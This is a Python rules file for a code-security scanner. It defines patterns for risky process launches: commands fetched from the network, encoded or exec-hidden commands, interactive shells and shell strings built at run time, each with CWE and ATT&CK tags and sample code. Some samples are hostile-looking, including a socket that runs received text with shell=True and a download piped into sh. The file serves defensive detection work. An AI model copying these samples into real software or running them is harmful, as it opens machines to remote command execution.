"""Rules about starting processes: what runs a command, where it comes from, and who can read it."""

from __future__ import annotations

from ringfence.scanning.effects import Kind, Language, Origin, Trait
from ringfence.scanning.findings import Family
from ringfence.scanning.rule import Rule, When
from ringfence.scanning.rules.examples import python
from ringfence.threat import ThreatLevel

_SINGLE = (Language.PYTHON, Language.JAVASCRIPT)
"""Languages in which starting a process is an act of its own; in a shell every line does."""

RULES: tuple[Rule, ...] = (
    Rule(
        "run-from-network",
        "Command received from the network",
        Family.SUBPROCESS,
        ThreatLevel.CRITICAL,
        "{name} runs what was received over the network: whoever sends it controls this machine.",
        (
            When(Kind.RUN, origins=(Origin.NETWORK,)),
            When(
                Kind.RUN,
                values=(
                    "pip* install *git+http://*",
                    "pip* install http://*",
                    "python* -m pip install http://*",
                ),
            ),
        ),
        found=python(
            "import urllib.request, os\nurllib.request.urlretrieve('https://example.org/x', 'x.sh')\nos.system('sh x.sh')",
            "import pip\npip.main(['install', 'git+http://example.org/x.git'])",
            "import socket, subprocess\ns = socket.socket()\ns.connect(('192.0.2.1', 4444))\nsubprocess.run(s.recv(1024).decode(), shell=True)",
            "import os, requests\ncommand = requests.get('https://example.org/task').text\nos.system(command)",
        ),
        ignored=python(
            "import socket, subprocess\ns = socket.socket()\ns.connect(('192.0.2.1', 4444))\nprint(s.recv(1024))\nsubprocess.run(['ls'])",
            "import requests\nprint(requests.get('https://example.org/task').text)",
        ),
        tags=("CWE-78", "T1059", "T1105", "ASI05"),
        hint="Run fixed commands only, and treat what was received as data.",
    ),
    Rule(
        "run-decoded",
        "Command hidden by an encoding",
        Family.OBFUSCATION,
        ThreatLevel.HIGH,
        "{name} runs a command that the source holds in encoded form.",
        (When(Kind.RUN, origins=(Origin.DECODED,)),),
        found=python(
            "import os, base64\nos.system(base64.b64decode('bHMgLWxh').decode())",
            "import subprocess\nsubprocess.run(bytes.fromhex('6c73').decode(), shell=True)",
        ),
        ignored=python(
            "import base64, subprocess\nprint(base64.b64decode('bHMgLWxh'))\nsubprocess.run(['ls', '-la'])",
            "import subprocess\nsubprocess.run(['base64', '-d', 'data.txt'])",
        ),
        tags=("CWE-506", "T1027", "T1140"),
        hint="Write the command as it is.",
    ),
    Rule(
        "run-process",
        "Process started",
        Family.SUBPROCESS,
        ThreatLevel.LOW,
        "{name} starts another program.",
        (When(Kind.RUN, languages=_SINGLE),),
        found=python("import os\nos.system('ls')", "import subprocess\nsubprocess.run(['ls'])"),
        ignored=python("import os\nos.getcwd()", "import subprocess\nprint(subprocess.PIPE)"),
        tags=("CWE-78", "T1059"),
    ),
    Rule(
        "run-shell-unknown",
        "Shell command put together at run time",
        Family.SUBPROCESS,
        ThreatLevel.MEDIUM,
        "{name} passes text to a shell that cannot be told in advance: a value in it can add commands.",
        (When(Kind.RUN, traits=(Trait.SHELL, Trait.UNRESOLVED), languages=_SINGLE),),
        found=python(
            "import os\ndef ping(host):\n    os.system('ping -c 1 ' + host)",
            "import subprocess, sys\nsubprocess.run(f'cat {sys.argv[1]}', shell=True)",
        ),
        ignored=python(
            "import os\nos.system('ls -la')",
            "import subprocess, sys\nsubprocess.run(['cat', sys.argv[1]])",
        ),
        tags=("CWE-78", "T1059.004"),
        hint="Pass a list of words without a shell.",
    ),
    Rule(
        "run-shell-hidden",
        "Shell command that cannot be told at all",
        Family.OBFUSCATION,
        ThreatLevel.HIGH,
        "{name} gives a shell a command of which nothing can be told, not even the program, although nothing comes in from outside.",
        (When(Kind.RUN, traits=(Trait.SHELL, Trait.UNRESOLVED, Trait.CALCULATED), languages=_SINGLE),),
        found=python(
            "import os\nclass A:\n    def __call__(self, c):\n        os.system(c)\nA()('ls')",
            "import os\nos.system(make()[3].swap())",
        ),
        ignored=python(
            "import os\ndef run(command):\n    os.system(command)",
            "import os\nos.system(input('command: '))",
            "import os\nos.system('git ' + subcommand)",
        ),
        tags=("CWE-78", "T1027", "T1059"),
        hint="Write the command as it is.",
    ),
    Rule(
        "run-interactive-shell",
        "Interactive shell",
        Family.SUBPROCESS,
        ThreatLevel.HIGH,
        "{name} starts a shell without a script, which obeys whoever holds its input.",
        (When(Kind.RUN, traits=(Trait.INTERACTIVE,), languages=_SINGLE),),
        found=python(
            "import subprocess\nsubprocess.call(['/bin/sh', '-i'])",
            "import pty\npty.spawn(['/bin/bash'])",
        ),
        ignored=python(
            "import subprocess\nsubprocess.call(['sh', '-c', 'ls'])",
            "import subprocess\nsubprocess.call(['bash', 'build.sh'])",
        ),
        tags=("CWE-78", "T1059.004"),
        hint="Run the one command that is needed.",
    ),
    Rule(
        "run-within-text",
        "Process started by code in a text",
        Family.INJECTION,
        ThreatLevel.HIGH,
        "{name} starts a process from within a text that is run as code, where no reader looks for it.",
        (When(Kind.RUN, traits=(Trait.HIDDEN,)),),
        found=python(
            "exec('import os; os.system(\"ls\")')",
            "import ast\ntree = ast.parse('import subprocess\\nsubprocess.run([\"ls\"])')\nexec(compile(tree, 'x', 'exec'))",
        ),
        ignored=python("import os\nos.system('ls')", "text = 'import os; os.system(\"ls\")'\nprint(text)"),
        tags=("CWE-95", "T1059", "ASI05"),
        hint="Write the code itself, without eval or exec around it.",
    ),
    Rule(
        "run-handed-on",
        "Process-starting function handed on",
        Family.SUBPROCESS,
        ThreatLevel.HIGH,
        "{name} is handed on as a value instead of being called, which hides the command that it will run.",
        (
            When(
                Kind.RUN,
                names=("os.*", "posix.*", "pty.*", "commands.*", "_posixsubprocess.*"),
                traits=(Trait.CALCULATED,),
            ),
        ),
        found=python(
            "import os\nrun = {'a': os.popen}\nrun['a']('ls')", "import os\nlist(map(os.system, ['ls']))"
        ),
        ignored=python("import os\nos.popen('ls')", "import os\njoin = os.path.join\njoin('a', 'b')"),
        tags=("CWE-78", "T1059", "T1027"),
        hint="Call the function by its own name.",
    ),
    Rule(
        "run-handed-on-subprocess",
        "Function of subprocess handed on",
        Family.SUBPROCESS,
        ThreatLevel.LOW,
        "{name} is handed on as a value; the command that it will run cannot be told here.",
        (When(Kind.RUN, names=("subprocess.*", "asyncio.*", "pexpect.*"), traits=(Trait.CALCULATED,)),),
        found=python(
            "import subprocess\nstart = subprocess.Popen\nstart(['ls'])",
            "import subprocess\nf = [subprocess.getoutput]",
        ),
        ignored=python(
            "import subprocess\nsubprocess.Popen(['ls'])", "import subprocess\npipe = subprocess.PIPE"
        ),
        tags=("CWE-78",),
    ),
)
